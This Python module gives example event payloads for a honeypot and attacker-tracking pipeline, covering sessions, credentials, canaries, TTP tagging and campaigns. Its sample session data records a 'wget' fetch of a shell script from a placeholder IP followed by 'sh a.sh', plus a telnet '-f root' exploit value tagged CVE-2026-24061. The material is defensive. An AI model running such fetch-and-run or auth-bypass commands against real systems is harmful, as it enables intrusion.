"""One payload of each kind, as a producer would send it: for the schemas, and for whoever writes a producer."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

_WHO: dict[str, Any] = {"attacker_uuid": "0b9c2f6e-7d0e-5a52-9a0e-3f2f6a0f9a11", "attacker_ip": "203.0.113.5"}
_SESSION: dict[str, Any] = {
    **_WHO,
    "session_id": "d6775016-887f-5a0c-9d42-bf2c1e43fcc2",
    "sensor_session": "a0a000000001",
    "decky_id": "web-01",
    "service": "ssh",
    "protocol": "ssh",
    "started_at": 1_772_359_200.0,
}
_WHAT = {"identity_uuid": "a2d9dd1f-c5ab-5732-a243-d0a7b1339a7a", "attacker_uuids": [_WHO["attacker_uuid"]]}
_SHA = "abababababababababababababababababababababababababababababababab"

EXAMPLES: Mapping[str, dict[str, Any]] = {
    "attacker.observed": {**_WHO, "decky_id": "web-01", "service": "ssh", "first_seen": 1_772_359_200.0},
    "attacker.session.started": _SESSION,
    "attacker.session.progress": {
        **_WHO,
        "session_id": _SESSION["session_id"],
        "sensor_session": "a0a000000001",
        "seq": 2,
        "from": 3,
        "commands": [{"id": "d6775016#cmd3", "command_text": "sh a.sh", "ts": 1_772_359_204.0}],
        "facts": [{"kind": "download", "what": "http://203.0.113.9/a.sh", "ts": 1_772_359_203.0}],
    },
    "attacker.session.ended": {
        **_SESSION,
        "ended_at": 1_772_359_209.0,
        "end_reason": "closed",
        "duration_s": 9.0,
        "part": 1,
        "parts": 1,
        "command_count": 1,
        "commands": [{"id": "d6775016#cmd0", "command_text": "wget http://203.0.113.9/a.sh", "ts": 1_772_359_202.0}],
        "inputs": [{"realm": "cat", "text": "#!/bin/sh", "ts": 1_772_359_203.0}],
        "downloads": [{"url": "http://203.0.113.9/a.sh", "sha256": _SHA, "outfile": "var/lib/cowrie/downloads/ab"}],
        "uploads": [{"filename": "sshd", "sha256": _SHA}],
        "forwards": [{"host": "198.51.100.7", "port": 443, "ja4": "t13i190800_9dc949149365_97f8aa674fd9"}],
        "exploits": [{"cve": "CVE-2026-24061", "name": "USER", "value": "-f root"}],
        "joined": [{"id": "d6775016#cmd0+1", "command_text": "wget \\\nhttp://203.0.113.9/a.sh", "lines": ["d6775016#cmd0"]}],
        "extras": [{"eventid": "cowrie.telnet.option", "fields": {"option_name": "NAWS"}}],
        "client": {"version": "SSH-2.0-Go", "hassh": "98ddc5604ef6a1006a2b49a58759fbe6", "kex": [], "size": None},
        "auth": {"fail_count": 2, "success": True, "usernames": ["root"]},
        "keystrokes_ref": _SHA,
    },
    "attacker.fingerprinted": {**_WHO, "type": "ja4", "ja4": "t13i190800_9dc949149365_97f8aa674fd9", "decky_id": "web-01"},
    "attacker.intel.enriched": {**_WHO, "aggregate_verdict": "malicious", "providers": ["abuseipdb"], "abuseipdb_score": 90.0},
    "attacker.scored": {**_WHO, "score": 51.2, "threshold": 50.0, "event_count": 40, "decky_count": 3},
    "attacker.observation.>": {
        **_WHO,
        "primitive": "motor.paste_burst_rate",
        "value": "high",
        "confidence": 0.8,
        "window": {"start_ts": 1_772_359_200.0, "end_ts": 1_772_359_209.0},
        "evidence_ref": "session:d6775016#behave-3",
    },
    "attacker.observations": {
        "attacker_uuid": _WHO["attacker_uuid"], "session_id": _SESSION["session_id"],
        "observations": [
            {
                "primitive": "motor.paste_burst_rate", "value": "high", "confidence": 0.8, "ts": 1_772_359_209.0,
                "window": {"start_ts": 1_772_359_200.0, "end_ts": 1_772_359_209.0},
                "evidence_ref": "session:d6775016#behave-3", "id": "5f0c",
            }
        ],
    },
    "credential.captured": {
        **_WHO, "decky_id": "web-01", "service": "ssh", "session_id": _SESSION["session_id"], "username": "root",
        "secret_hmac": _SHA, "secret_kind": "password", "success": False,
    },
    "credential.reuse.detected": {
        **_WHO, "credential_id": "1468619b-f831-55e0-b6a2-950bf25d8559", "username": "root", "reuse_count": 1,
        "target_count": 2, "deckies": ["db-01", "web-01"], "services": ["ssh"],
    },
    "identity.formed": _WHAT,
    "identity.merged": {"winner_uuid": _WHAT["identity_uuid"], "loser_uuid": "f0a1", "reasons": ["same key"], "seq": 7},
    "identity.unmerged": {"resurrected": "f0a1", "former_winner": _WHAT["identity_uuid"], "reasons": ["cut"], "seq": 8},
    "campaign.formed": {
        "campaign_uuid": "c297", "name": "key SHA256:abc", "identity_uuids": [_WHAT["identity_uuid"], "f0a1"],
        "reasons": ["key SHA256:abc at 2 addresses"], "seq": 6,
    },
    "campaign.merged": {"winner_uuid": "c297", "loser_uuid": "c301", "reasons": ["file d2a8 in both"], "seq": 9},
    "campaign.unmerged": {"resurrected": "c301", "former_winner": "c297", "reasons": ["cut"], "seq": 10},
    "campaign.identity.assigned": {
        "campaign_uuid": "c297", "identity_uuid": "f0a1", "reasons": ["key SHA256:abc at 3 addresses"], "seq": 11,
    },
    "email.received": {
        **_WHO, "source_id": "mail-1", "decky_id": "mail-01", "service": "smtp", "subject": "Invoice",
        "from_domain": "example.org", "rcpt_count": 1, "urls": ["example.org"], "body_markers": ["invoice"],
    },
    "canary.*.placed": {"token_id": "tok1", "kind": "http", "decky_id": "web-01", "path": "/srv/report.docx"},
    "canary.*.triggered": {**_WHO, "token_id": "tok1", "trigger_id": "trigger-1", "user_agent": "curl/8.5", "request_path": "/r"},
    "canary.*.revoked": {"token_id": "tok1", "reason": "replaced"},
    "attribution.profile.state_changed": {
        **_WHAT, "primitive": "motor.paste_burst_rate", "old_state": None, "new_state": "stable",
        "current_value": "high", "confidence": 0.9, "observation_count": 6, "ts": 1_772_359_209.0, "seq": 1,
    },
    "attribution.profile.multi_actor_suspected": {
        **_WHAT, "primitives": ["a", "b"], "families": ["motor"], "sides": [["s1"], ["s2"]],
        "evidence_summary": "2 primitives flagged multi_actor", "confidence": 0.7, "ts": 1_772_359_209.0,
    },
    "ttp.tagged": {
        "attacker_uuid": _WHO["attacker_uuid"], "tag_uuids": ["u1"], "techniques_added": ["T1105"],
        "fired": [{"technique_id": "T1105", "rule_ids": ["R0001"], "tags": 1}],
    },
    "ttp.session.judged": {
        "session_id": "d6775016-887f-5a0c-9d42-bf2c1e43fcc2", "attacker_uuid": _WHO["attacker_uuid"], "severity": "high",
        "severity_reason": "fetched and ran a.sh", "playbook": "pb-d79046e3982f", "story_line": "fetch+run a.sh",
        "story": [
            {
                "phase": "deliver", "from": 1, "to": 2, "n": 2, "stages": {"fetch": 1, "run": 1}, "what": ["a.sh"],
                "via": ["wget"], "techniques": ["T1105", "T1059.004"],
            }
        ],
    },
    "ttp.rule.fired.*": {"technique_id": "T1105", "tag_uuids": ["u1"], "rule_ids": ["R0001"]},
    "ttp.rule.suppressed": {"rule_id": "R0001", "reason": "disabled", "count": 3, "window_s": 60.0},
    "ttp.rule.reloaded.*": {"rule_id": "R0001", "rule_version": 2},
    "ttp.rule.state.*": {"rule_id": "R0001", "state": "disabled", "reason": "noisy", "set_by": "ann"},
    "decky.*.state": {"decky": "web-01", "services": ["telnet"], "status": "running", "since": 1_772_359_200.0},
    "decky.*.mutate_request": {"request_id": "req-1", "requested_by": "ann", "reason": "known to scanners"},
    "decky.*.mutation": {
        "decky": "web-01", "old_services": ["telnet"], "new_services": ["ftp"], "trigger": "operator",
        "outcome": "applied", "request_id": "req-1", "actor": "ann",
    },
    "topology.*.mutation.*": {"mutation_id": "m1", "op": "attach", "payload": {"decky": "web-01"}},
    "topology.*.status": {"state": "ready", "reason": ""},
    "system.*.health": {"worker": "ttp", "ts": 1_772_359_200.0, "state": "ok", "pid": 12, "host": "sensor-1", "processed": 5},
    "system.*.control": {"action": "pause", "requested_by": "ann", "ts": 1_772_359_200.0},
    "system.deadletter.*": {"dead_letter_id": 3, "topic": "attacker.observed", "reason": "neither attacker_uuid nor attacker_ip"},
}  # fmt: skip
"""Pattern of a topic → payload."""
